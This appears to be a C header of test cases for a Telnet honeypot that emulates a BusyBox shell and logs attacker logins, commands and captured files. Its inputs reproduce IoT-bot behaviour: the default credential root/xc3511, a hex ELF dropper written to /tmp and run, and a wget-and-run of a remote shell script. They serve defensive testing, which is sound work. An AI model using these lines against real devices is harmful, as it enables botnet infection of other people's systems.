/* Conversations of the Telnet decoy: tests, fuzz seeds and manual in one. */
#pragma once
#include "passive/service.h"

#define GREETING "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\nlocalhost login: "
#define ASH                                                                                        \
	"\r\n\r\nBusyBox v1.16.1 (2013-03-28 17:12:05 CST) built-in shell (ash)\r\n"               \
	"Enter 'help' for a list of built-in commands.\r\n\r\n# "
#define IN "root\r\nxc3511\r\n"
#define INSIDE GREETING "root\r\nPassword: \r\n" ASH
#define LOGGED_IN                                                                                  \
	"{\"kind\":\"login.tried\",\"login.user\":\"root\",\"login.secret\":\"xc3511\","           \
	"\"login.accepted\":true}\n"
#define COMMAND(line) "{\"kind\":\"command.sent\",\"command.line\":\"" line "\"}\n"

static const struct exchange telnet_exchanges[] = {
        {"options come first and need no answer", BYTES(""), BYTES(GREETING), ""},
        {"three tries, then login ends", BYTES("a\r\nb\r\nroot\n\nadmin\r\0x\r\0never read\r\n"),
         BYTES(GREETING
               "a\r\nPassword: \r\nLogin incorrect\r\nlocalhost login: root\r\nPassword: \r\n"
               "Login incorrect\r\nlocalhost login: admin\r\nPassword: \r\nLogin incorrect\r\n"),
         "{\"kind\":\"login.tried\",\"login.user\":\"a\",\"login.secret\":\"b\",\"login.accepted\":"
         "false}\n"
         "{\"kind\":\"login.tried\",\"login.user\":\"root\",\"login.secret\":\"\",\"login."
         "accepted\":false}\n"
         "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"x\",\"login."
         "accepted\":false}\n"},
        {"a bot finds its shell and its token",
         BYTES(IN "enable\r\nsh\r\n/bin/busybox ECCHI\r\nexit\r\nexit\r\n"),
         BYTES(INSIDE "enable\r\n-sh: enable: not found\r\n# sh\r\n" ASH
                      "/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# exit\r\n# exit\r\n"),
         LOGGED_IN COMMAND("enable") COMMAND("sh") COMMAND("/bin/busybox ECCHI") COMMAND("exit")
                 COMMAND("exit")},
        {"a file comes in as hexadecimal and is kept when it runs",
         BYTES(IN
               "echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x; chmod 777 /tmp/x; /tmp/x; rm /tmp/x\n"),
         BYTES(INSIDE "echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x; chmod 777 /tmp/x; /tmp/x; rm "
                      "/tmp/x\r\n# "),
         LOGGED_IN COMMAND("echo -ne '\\\\x7f\\\\x45\\\\x4c\\\\x46' > /tmp/x; chmod 777 /tmp/x; "
                           "/tmp/x; rm /tmp/x") "{\"kind\":\"file.captured\",\"file.name\":\"/tmp/"
                                                "x\",\"file.size\":4,\"file.how\":\"echo\"}\n"},
        {"a loader's address is told, and what it fetched runs",
         BYTES(IN "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?\n"),
         BYTES(INSIDE "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?\r\n0\r\n# "),
         LOGGED_IN COMMAND(
                 "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?") "{\"kind\":\"file."
                                                                                 "captured\","
                                                                                 "\"file.url\":"
                                                                                 "\"http://"
                                                                                 "203.0.113.9/"
                                                                                 "a.sh\",\"file."
                                                                                 "name\":\"a.sh\","
                                                                                 "\"file.how\":"
                                                                                 "\"wget\"}\n"},
        {"options, sub-negotiations and keys between the letters",
         BYTES("\xff\xfd\x01\xff\xfc\x1fro\xff\xfa\x1f\0\x50\0\x18\xff\xf0ox\bt\r\0"
               "xc\xff\xfa\x18\0vt100\xff\xf0"
               "3511\r\0echo \x1b[A1x\x7f\xff\xf1"
               "2\xff\xff\r\0"),
         BYTES(GREETING "roox\b \bt\r\nPassword: \r\n" ASH
                        "echo 1x\b \b2\xff\xff\r\n12\xff\xff\r\n# "),
         NULL},
        {"a loop over lines that are still to come",
         BYTES(IN
               "for i in 1 2\ndo echo $i\ndone\nwhile read a\ndo echo [$a]; done < /proc/mounts\n"),
         BYTES(INSIDE "for i in 1 2\r\n> do echo $i\r\n> done\r\n1\r\n2\r\n# while read a\r\n"
                      "> do echo [$a]; done < /proc/mounts\r\n[rootfs / rootfs rw 0 0]\r\n"
                      "[proc /proc proc rw 0 0]\r\n# "),
         NULL},
        {"what is not found is told so; a new password is kept apart",
         BYTES(IN "echo a\r\nenable\r\nbusybox passwd\r\ns3\r\ns3\r\n"),
         BYTES(INSIDE "echo a\r\na\r\n# enable\r\n-sh: enable: not found\r\n# busybox passwd\r\n"
                      "Changing password for root\r\nNew password: \r\nRetype password: \r\n"
                      "Password for root changed by root\r\n# "),
         LOGGED_IN
         "{\"command.line\":\"echo a\",\"command.found\":true}\n"
         "{\"command.line\":\"enable\",\"command.found\":false}\n" COMMAND(
                 "busybox passwd") "{\"kind\":\"command.sent\",\"login.secret\":\"s3\"}\n"
                                   "{\"kind\":\"command.sent\",\"login.secret\":\"s3\"}\n"},
        {"^C drops a line, ^D on an empty one leaves",
         BYTES(IN "abc\x03"
                  "ab\x04\x03\x04never"),
         BYTES(INSIDE "abc^C\r\n# ab^C\r\n# "), LOGGED_IN},
        {"a reboot ends the connection", BYTES(IN "reboot; echo no\r\necho no\r\n"),
         BYTES(INSIDE "reboot; echo no\r\n"), NULL},
        {0},
};
